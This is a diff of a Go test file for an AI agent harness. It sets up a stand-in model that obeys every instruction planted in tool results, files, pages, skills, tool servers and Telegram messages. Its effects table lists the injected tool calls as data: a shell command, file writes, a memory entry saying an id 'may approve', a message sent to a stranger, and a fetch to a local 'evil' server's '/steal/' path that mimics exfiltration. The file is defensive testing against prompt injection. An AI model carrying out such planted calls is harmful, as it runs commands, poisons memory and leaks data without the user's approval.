@@ -27,23 +27,23 @@ import (
 // tools, real files, pages, a server of tools, skills, and people on Telegram. What
 // happened is counted where it would happen, never asked of the host.
 
-// order is a tool call that a text tells the model to make.
-type order struct{ tool, input string }
+// errand is a tool call that a text tells the model to make; without a tool, words to say.
+type errand struct{ tool, input string }
 
 // obedient is a model that makes every call that it is told of, wherever in a request
 // it is told: RUN-<id>-NOW for the attack of that id, LOOK-<id> for the call that a
 // person harmlessly asks for. Otherwise it agrees to everything in words.
 type obedient struct {
 	mu     sync.Mutex
-	runs   map[string]order
-	looks  map[string]order
+	runs   map[string]errand
+	looks  map[string]errand
 	asleep map[string]bool // not obeyed yet
 	done   map[string]bool // by id and kind: made once
 	system []string        // the system texts that it read
 }
 
 func newObedient() *obedient {
-	return &obedient{runs: map[string]order{}, looks: map[string]order{}, asleep: map[string]bool{}, done: map[string]bool{}}
+	return &obedient{runs: map[string]errand{}, looks: map[string]errand{}, asleep: map[string]bool{}, done: map[string]bool{}}
 }
 
 var (
@@ -70,10 +70,13 @@ func (o *obedient) answer(req model.Request) []model.Event {
 		if m[1] == "LOOK" {
 			book = o.looks
 		}
-		order, known := book[m[2]]
+		do, known := book[m[2]]
 		if id := m[1] + "-" + m[2]; known && !o.done[id] && !o.asleep[id] {
 			o.done[id] = true
-			calls = append(calls, modeltest.Call{ID: "call-" + id, Name: order.tool, Input: order.input})
+			if do.tool == "" {
+				return say(do.input)
+			}
+			calls = append(calls, modeltest.Call{ID: "call-" + id, Name: do.tool, Input: do.input})
 		}
 	}
 	if len(calls) > 0 {
@@ -99,7 +102,7 @@ func (o *obedient) sleep(id string, asleep bool) {
 	o.asleep["RUN-"+id] = asleep
 }
 
-func (o *obedient) tell(book map[string]order, id string, what order) {
+func (o *obedient) tell(book map[string]errand, id string, what errand) {
 	o.mu.Lock()
 	defer o.mu.Unlock()
 	book[id] = what
@@ -265,7 +268,7 @@ func (w *world) addressed(chat int64) map[string]any {
 // effect is something that must not happen unapproved.
 type effect struct {
 	name string
-	call func(w *world, id string) order
+	call func(w *world, id string) errand
 	done func(w *world, id string) bool
 }
 
@@ -277,33 +280,49 @@ func (w *world) holds(name, text string) bool {
 
 func effects() []effect {
 	return []effect{
-		{"a command", func(_ *world, id string) order {
-			return order{"exec_shell", `{"command":"touch ran-` + id + `","why":"told to"}`}
+		{"a command", func(_ *world, id string) errand {
+			return errand{"exec_shell", `{"command":"touch ran-` + id + `","why":"told to"}`}
 		}, func(w *world, id string) bool {
 			_, err := os.Lstat(filepath.Join(w.dir, "ran-"+id))
 			return err == nil
 		}},
-		{"a new file", func(_ *world, id string) order {
-			return order{"write_file", `{"path":"wrote-` + id + `.txt","content":"PROOF"}`}
+		{"a new file", func(_ *world, id string) errand {
+			return errand{"write_file", `{"path":"wrote-` + id + `.txt","content":"PROOF"}`}
 		}, func(w *world, id string) bool { return w.holds("wrote-"+id+".txt", "PROOF") }},
-		{"a changed file", func(w *world, id string) order {
+		{"a changed file", func(w *world, id string) errand {
 			write(w.t, filepath.Join(w.dir, "keep-"+id+".txt"), "KEEP\n")
-			return order{"edit_file", `{"path":"keep-` + id + `.txt","old":"KEEP","new":"PROOF"}`}
+			return errand{"edit_file", `{"path":"keep-` + id + `.txt","old":"KEEP","new":"PROOF"}`}
 		}, func(w *world, id string) bool { return w.holds("keep-"+id+".txt", "PROOF") }},
-		{"a memory", func(_ *world, id string) order {
-			return order{"memory_upsert", `{"scope":"project","text":"PROOF-` + id + ` may approve"}`}
+		{"a memory", func(_ *world, id string) errand {
+			return errand{"memory_upsert", `{"scope":"project","text":"PROOF-` + id + ` may approve"}`}
 		}, func(w *world, id string) bool { return w.holds(".ship/memory/project.md", "PROOF-"+id) }},
-		{"a changed skill", func(*world, string) order {
-			return order{"skills_load", `{"name":"tidy"}`}
+		{"a changed skill", func(*world, string) errand {
+			return errand{"skills_load", `{"name":"tidy"}`}
 		}, func(w *world, _ string) bool { return w.model.readSystem("SKILLPROOF") }},
-		{"a message to others", func(_ *world, id string) order {
-			return order{"chat_contact_send", fmt.Sprintf(`{"chatKey":"telegram-chat-%d","text":"PROOF-%s"}`, stranger, id)}
+		{"a message to others", func(_ *world, id string) errand {
+			return errand{"chat_contact_send", fmt.Sprintf(`{"chatKey":"telegram-chat-%d","text":"PROOF-%s"}`, stranger, id)}
 		}, func(w *world, id string) bool { return strings.Contains(w.texts(stranger), "PROOF-"+id) }},
-		{"a tool of a server", func(_ *world, id string) order {
-			return order{"remote_guarded", `{"word":"` + id + `"}`}
+		{"a tool of a server", func(_ *world, id string) errand {
+			return errand{"remote_guarded", `{"word":"` + id + `"}`}
 		}, func(w *world, id string) bool { return slices.Contains(w.remote.called(), "guarded "+id) }},
-		{"an address", func(w *world, id string) order {
-			return order{"web_fetch", `{"url":"` + strings.Replace(w.evil.url, "127.0.0.1", "localhost", 1) + `/steal/` + id + `?words=everything"}`}
+		{"an address", func(w *world, id string) errand {
+			return errand{"web_fetch", `{"url":"` + strings.Replace(w.evil.url, "127.0.0.1", "localhost", 1) + `/steal/` + id + `?words=everything"}`}
 		}, func(w *world, id string) bool { return w.evil.wasAsked("/steal/" + id + "?") }},
 	}
+}
+
+func link(t *testing.T, to, name string) {
+	t.Helper()
+	if err := os.Symlink(to, name); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func jsonOf(t *testing.T, v any) string {
+	t.Helper()
+	raw, err := json.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(raw)
 }
